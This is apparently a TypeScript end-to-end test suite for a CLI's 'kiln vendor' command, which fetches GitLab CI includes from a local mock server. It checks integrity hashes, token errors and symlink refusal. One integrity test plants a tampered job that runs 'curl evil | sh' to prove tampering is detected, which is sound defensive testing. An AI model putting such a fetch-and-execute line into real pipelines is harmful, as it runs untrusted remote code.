// `kiln vendor` end to end through the CLI against a small GitLab-like HTTP server on 127.0.0.1 started here:
// remote (plain HTTP), project (GitLab API, token in PRIVATE-TOKEN), template (templates_url/<name>) and component
// (releases → newest matching version, commit SHA, templates/<name>/template.yml) includes, nested includes,
// include:integrity, atomic writes, symlinks, and the single "run kiln vendor" error per missing include.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  existsSync,
  mkdtempSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, test } from 'node:test';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const TOKEN = 'test-token';
const SHA = 'c0ffee0000000000000000000000000000000001';
const temps: string[] = [];
process.on('exit', () => temps.forEach((d) => rmSync(d, { recursive: true, force: true })));

const files: Record<string, string> = {
  '/ci/remote.yml':
    'include:\n  - remote: http://HOST/ci/nested.yml\nremote-job:\n  stage: test\n  script: echo remote\n',
  '/ci/nested.yml': 'nested-job:\n  stage: test\n  script: echo nested\n',
  '/ci/tag-only.yml': 'release-job:\n  stage: deploy\n  script: echo release\n',
  '/templates/Jobs/Lint.gitlab-ci.yml': 'template-job:\n  stage: test\n  script: echo template\n',
};
const projectFile = 'project-job:\n  stage: test\n  script: echo project\n';
const componentFile =
  'spec:\n  component: [version, sha]\n  inputs:\n    stage:\n      default: test\n---\n' +
  'component-job:\n  stage: $[[ inputs.stage ]]\n  script: echo $[[ component.version ]] $[[ component.sha ]]\n';
const requests: string[] = [];
let server: Server;
let host = '';

before(async () => {
  server = createServer((req, res) => {
    const url = req.url ?? '';
    requests.push(url);
    const send = (status: number, body: string, type = 'text/plain'): void => {
      res.writeHead(status, { 'content-type': type });
      res.end(body);
    };
    if (url in files) return send(200, files[url].replace(/HOST/g, host));
    if (url.startsWith('/api/v4/') && req.headers['private-token'] !== TOKEN)
      return send(401, '{"message":"401 Unauthorized"}');
    if (url === '/api/v4/projects/group%2Fshared/repository/files/ci%2Fbuild.yml/raw?ref=v1')
      return send(200, projectFile);
    if (url === '/api/v4/projects/group%2Fcomponents/releases?per_page=100') {
      return send(
        200,
        JSON.stringify([
          { tag_name: '1.2.0' },
          { tag_name: '1.10.1' },
          { tag_name: '2.0.0-rc1' },
          { tag_name: '1.9.9' },
          { tag_name: '2.1.0' },
        ]),
        'application/json',
      );
    }
    if (url === '/api/v4/projects/group%2Fcomponents/repository/commits/1.10.1')
      return send(200, JSON.stringify({ id: SHA }));
    if (
      url === `/api/v4/projects/group%2Fcomponents/repository/files/templates%2Fdeploy%2Ftemplate.yml/raw?ref=${SHA}`
    ) {
      return send(200, componentFile);
    }
    return send(404, 'not found');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const addr = server.address();
  host = `127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`;
});
after(() => server.close());

function kiln(args: string[], env: Record<string, string> = {}): Promise<{ code: number; out: string; err: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(ROOT, 'bin', 'kiln.js'), ...args], {
      env: { ...process.env, KILN_FROM_SOURCE: '1', GITLAB_TOKEN: '', ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (err += d));
    child.on('close', (code) => resolve({ code: code ?? -1, out, err }));
  });
}

const sri = (s: string): string => `sha256-${createHash('sha256').update(s).digest('base64')}`;

function project(integrity?: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'kiln-vendor-'));
  temps.push(dir);
  writeFileSync(
    join(dir, 'kiln.toml'),
    `[gitlab]\nurl = "http://${host}"\ntemplates_url = "http://${host}/templates"\n`,
  );
  writeFileSync(
    join(dir, '.gitlab-ci.yml'),
    [
      'include:',
      `  - remote: http://${host}/ci/remote.yml`,
      `    integrity: ${integrity ?? sri(files['/ci/remote.yml'].replace(/HOST/g, host))}`,
      '  - project: group/shared',
      '    ref: v1',
      '    file: /ci/build.yml',
      '  - template: Jobs/Lint.gitlab-ci.yml',
      `  - remote: http://${host}/ci/tag-only.yml`,
      '    rules:',
      '      - if: $CI_COMMIT_TAG',
      '  - component: $CI_SERVER_FQDN/group/components/deploy@1',
      '    inputs:',
      '      stage: deploy',
      'stages: [test, deploy]',
      'build:',
      '  extends: .defined-in-a-missing-include',
      '  script: make',
      '',
    ].join('\n'),
  );
  return dir;
}

test('before vendoring: one error per missing include, naming the exact `kiln vendor` command, nothing else', async () => {
  const dir = project();
  const r = await kiln(['lint', '-C', dir]);
  assert.equal(r.code, 1);
  const lines = r.err.trim().split('\n');
  assert.equal(lines.length, 5, r.err); // 4 includes + the count; `build`'s extends is not reported
  for (const l of lines.slice(0, 4))
    assert.match(l, new RegExp(`is not vendored .*; run \`kiln vendor -C ${dir}\` to fetch it$`));
  assert.equal(lines[4], '4 errors');
});

test('kiln vendor fetches every kind (nested includes too), verifies integrity, then lint and jobs work offline', async () => {
  const dir = project();
  const r = await kiln(['vendor', '-C', dir], { GITLAB_TOKEN: TOKEN });
  assert.equal(r.code, 1, 'the pipeline itself still has an error: build extends an undefined job');
  assert.match(r.out, /fetched remote http:\/\/.*\/ci\/remote\.yml/);
  assert.match(r.out, /fetched remote http:\/\/.*\/ci\/nested\.yml/, 'an include of a fetched file');
  assert.match(r.out, /fetched project group\/shared@v1:ci\/build\.yml/);
  assert.match(r.out, /fetched template Jobs\/Lint\.gitlab-ci\.yml/);
  assert.match(r.out, /fetched remote http:\/\/.*\/ci\/tag-only\.yml/, 'fetched whatever its include:rules');
  assert.match(r.out, /fetched component .*group\/components\/deploy@1/);
  assert.match(r.err, /build:extends: unknown key in extends/, 'now the real problem shows');
  const port = host.split(':')[1];
  const meta = JSON.parse(
    readFileSync(join(dir, `.kiln-vendor/component/127.0.0.1:${port}/group/components/deploy/1.meta.json`), 'utf8'),
  );
  assert.deepEqual(
    meta,
    { sha: SHA, version: '1.10.1', ref: '1.10.1' },
    '`1` is the newest 1.x release, not 2.x or an rc',
  );
  assert.equal(readFileSync(join(dir, '.kiln-vendor/project/group/shared/v1/ci/build.yml'), 'utf8'), projectFile);
  assert.deepEqual(readdirSync(join(dir, '.kiln-vendor/template/Jobs')), ['Lint.gitlab-ci.yml'], 'no temp files left');

  writeFileSync(
    join(dir, '.gitlab-ci.yml'),
    readFileSync(join(dir, '.gitlab-ci.yml'), 'utf8').replace(/\n {2}extends: .*\n/, '\n'),
  );
  const again = await kiln(['vendor', '-C', dir], { GITLAB_TOKEN: TOKEN });
  assert.equal(again.code, 0, again.err);
  assert.match(again.out, /nothing to fetch/);
  const jobs = await kiln(['jobs', '--json', '-C', dir]);
  assert.equal(jobs.code, 0, jobs.err);
  const j = JSON.parse(jobs.out).jobs;
  assert.deepEqual(Object.keys(j).sort(), [
    'build',
    'component-job',
    'nested-job',
    'project-job',
    'remote-job',
    'template-job',
  ]);
  assert.equal(j['component-job'].stage, 'deploy');
});

test('a private project without a token: the error says to set GITLAB_TOKEN; nothing is written', async () => {
  const dir = project();
  const r = await kiln(['vendor', '-C', dir]);
  assert.equal(r.code, 1);
  assert.match(r.err, /project group\/shared@v1:ci\/build\.yml: GET .*HTTP 401.*set GITLAB_TOKEN/);
  assert.ok(!existsSync(join(dir, '.kiln-vendor/project')));
});

test('include:integrity: a mismatch is refused by kiln vendor, and a vendored copy changed later fails lint', async () => {
  const wrong = project(sri('something else'));
  const r = await kiln(['vendor', '-C', wrong], { GITLAB_TOKEN: TOKEN });
  assert.equal(r.code, 1);
  assert.match(r.err, /remote http:\/\/.*\/ci\/remote\.yml: integrity check failed: the content is sha256-/);
  assert.ok(
    !existsSync(join(wrong, '.kiln-vendor/remote', host, 'ci/remote.yml')),
    'the mismatching file is not written',
  );
  assert.ok(existsSync(join(wrong, '.kiln-vendor/remote', host, 'ci/tag-only.yml')), 'the others are');

  const dir = project();
  assert.equal((await kiln(['vendor', '-C', dir], { GITLAB_TOKEN: TOKEN })).code, 1);
  const copy = join(dir, '.kiln-vendor/remote', host, 'ci/remote.yml');
  writeFileSync(copy, `${readFileSync(copy, 'utf8')}evil:\n  script: curl evil | sh\n`);
  const lint = await kiln(['lint', '-C', dir]);
  assert.equal(lint.code, 1);
  assert.match(lint.err, /ci\/remote\.yml`: integrity check failed \(content is sha256-.*include:integrity is sha256-/);
  assert.ok(!/evil/.test(lint.err));
  const refetch = await kiln(['vendor', '-C', dir], { GITLAB_TOKEN: TOKEN });
  assert.match(refetch.out, /fetched remote .*remote\.yml/, 'kiln vendor fetches a copy that fails its check again');
  assert.ok(!readFileSync(copy, 'utf8').includes('evil'));
});

test('kiln vendor never writes through a symlink in the vendor folder', async () => {
  const dir = project();
  const outside = mkdtempSync(join(tmpdir(), 'kiln-outside-'));
  temps.push(outside);
  mkdirSync(join(dir, '.kiln-vendor'));
  symlinkSync(outside, join(dir, '.kiln-vendor', 'template'));
  const r = await kiln(['vendor', '-C', dir], { GITLAB_TOKEN: TOKEN });
  assert.equal(r.code, 1);
  assert.match(r.err, /\.kiln-vendor\/template is a symlink/);
  assert.deepEqual(readdirSync(outside), []);
});
